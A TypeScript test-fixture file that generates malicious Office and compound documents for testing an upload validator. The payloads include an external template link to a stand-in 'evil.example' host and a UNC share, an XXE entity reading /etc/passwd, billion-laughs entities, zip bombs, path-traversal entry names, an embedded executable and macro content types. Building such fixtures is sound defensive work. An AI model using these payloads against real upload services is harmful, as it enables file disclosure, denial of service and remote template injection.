import { deflateRawSync } from 'node:zlib';
import { CONTENT_TYPES } from '#domain/uploads.ts';
import { type Bytes, compoundBytes, contentTypes, FAST, zipBytes } from '#tests/documents.ts';
import type { MaliciousFile } from './pdfs.ts';

const MIB = 1024 * 1024;
const ZEROS = new Uint8Array(60 * MIB);
const BOMB = deflateRawSync(ZEROS, FAST);
type Kind = 'docx' | 'pptx';
type Entry = Parameters<typeof zipBytes>[0][number];
const PARTS = { docx: '/word/document.xml', pptx: '/ppt/presentation.xml' };
const LINKS = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** An Office package with additional or replaced entries. */
export function packageOf(kind: Kind, further: Entry[] = [], type: string = CONTENT_TYPES[kind]): Bytes {
  const entries: Entry[] = [
    { name: '[Content_Types].xml', content: contentTypes(PARTS[kind], type) },
    { name: '_rels/.rels', content: '<Relationships/>' },
    { name: PARTS[kind].slice(1), content: '<document/>' },
  ];
  const names = new Set(further.map(({ name }) => name));
  return zipBytes([...entries.filter(({ name }) => !names.has(name)), ...further]);
}

const linkTo = (target: string) =>
  `<Relationships xmlns="${LINKS}"><Relationship Id="a" Type="${LINKS}/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;

const MACRO = {
  docx: 'application/vnd.ms-word.document.macroEnabled',
  pptx: 'application/vnd.ms-powerpoint.presentation.macroEnabled',
};

/** Every hostile Office package of a kind: bombs, false sizes, macros, path traversals, and halves. */
export function maliciousPackages(kind: Kind): MaliciousFile[] {
  const good = packageOf(kind);
  const folder = PARTS[kind].split('/')[1];
  const accepted: Record<string, Bytes> = {
    'a template on another site': packageOf(kind, [
      { name: `${folder}/_rels/a.rels`, content: linkTo('https://evil.example/a.dotm') },
    ]),
    'a template on a share': packageOf(kind, [
      { name: `${folder}/_rels/a.rels`, content: linkTo('\\\\evil\\a') },
    ]),
    'a program inside': packageOf(kind, [{ name: `${folder}/embeddings/a.exe`, content: 'MZ' }]),
    'an entity of a file': packageOf(kind, [
      {
        name: 'docProps/core.xml',
        content: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      },
    ]),
    'a billion laughs': packageOf(kind, [
      { name: 'docProps/app.xml', content: '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>' },
    ]),
    'an archive inside': packageOf(kind, [{ name: `${folder}/a.zip`, content: BOMB }]),
    'two entries of one name': zipBytes([
      { name: '[Content_Types].xml', content: contentTypes(PARTS[kind], CONTENT_TYPES[kind]) },
      ...[1, 2].map((content) => ({ name: PARTS[kind].slice(1), content: `<a>${content}</a>` })),
    ]),
    'a name of 60,000 letters': packageOf(kind, [{ name: `${folder}/${'a'.repeat(60_000)}`, content: '' }]),
    'a name of NULs': packageOf(kind, [{ name: `${folder}/a\0.xml`, content: '' }]),
  };
  const rejected: Record<string, Bytes> = {
    'a way out': packageOf(kind, [{ name: '../../etc/cron.d/a', content: '' }]),
    'a way from the root': packageOf(kind, [{ name: '/etc/passwd', content: '' }]),
    'a way of Windows': packageOf(kind, [{ name: 'C:\\a.exe', content: '' }]),
    macros: packageOf(kind, [], MACRO[kind]),
    '240 MiB unpacked': packageOf(
      kind,
      [1, 2, 3, 4].map((n) => ({ name: `${folder}/${n}`, content: ZEROS })),
    ),
    'a lie about its size': packageOf(kind, [
      { name: `${folder}/a`, content: 'a'.repeat(MIB), declaredSize: 1 },
    ]),
    'a lie of four gigabytes': packageOf(kind, [
      { name: `${folder}/a`, content: 'a', declaredSize: 0xfffffffe },
    ]),
    '6,000 entries': packageOf(
      kind,
      Array.from({ length: 6000 }, (_, n) => ({ name: `${folder}/${n}`, content: '' })),
    ),
    'another part': packageOf(kind, [], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'),
    'no part': zipBytes([
      { name: '[Content_Types].xml', content: contentTypes(PARTS[kind], CONTENT_TYPES[kind]) },
    ]),
    'no contents': zipBytes([{ name: PARTS[kind].slice(1), content: '<a/>' }]),
    'two megabytes of contents': packageOf(kind, [
      { name: '[Content_Types].xml', content: ' '.repeat(2 * MIB) },
    ]),
    'a checksum of something else': changed(good, good.length - 40),
    ...Object.fromEntries(
      [4, 40, 200, good.length - 1].map((length) => [`only ${length} bytes`, good.slice(0, length)]),
    ),
  };
  return asFiles(kind, accepted, rejected);
}

const changed = (bytes: Bytes, place: number): Bytes =>
  bytes.map((byte, at) => (at === place ? byte ^ 255 : byte));

/** Every hostile compound file that claims the stream of an old Office document. */
export function maliciousCompounds(name: string): MaliciousFile[] {
  const good = compoundBytes(name);
  const put = (place: number, value: number): Bytes => {
    const bytes = good.slice();
    new DataView(bytes.buffer).setUint32(place, value, true);
    return bytes;
  };
  const rejected: Record<string, Bytes> = {
    'a table of sectors that is far away': put(76, 0x00ffffff),
    'a directory that is far away': put(48, 0x00ffffff),
    'a list of tables that is far away': changed(put(68, 0x00ffffff), 72),
    'sectors of two gigabytes': put(30, 31),
    'sectors of no bytes': put(30, 0),
    'another stream': compoundBytes('Workbook'),
    'a protected package': compoundBytes('EncryptedPackage'),
    ...Object.fromEntries(
      [8, 76, 512, 600, 1024].map((length) => [`only ${length} bytes`, good.slice(0, length)]),
    ),
  };
  const circle = put(512 + 4, 1);
  const accepted = {
    'a directory in a circle': circle,
    'a name that is too long': put(1024 + 128 + 64, 0xffff),
  };
  return asFiles(name, accepted, rejected);
}

const asFiles = (
  of: string,
  accepted: Record<string, Bytes>,
  rejected: Record<string, Bytes>,
): MaliciousFile[] => [
  ...Object.entries(accepted).map(([what, bytes]) => ({ what: `${of} with ${what}`, bytes })),
  ...Object.entries(rejected).map(
    ([what, bytes]): MaliciousFile => ({ what: `${of}: ${what}`, bytes, isRefused: true }),
  ),
];
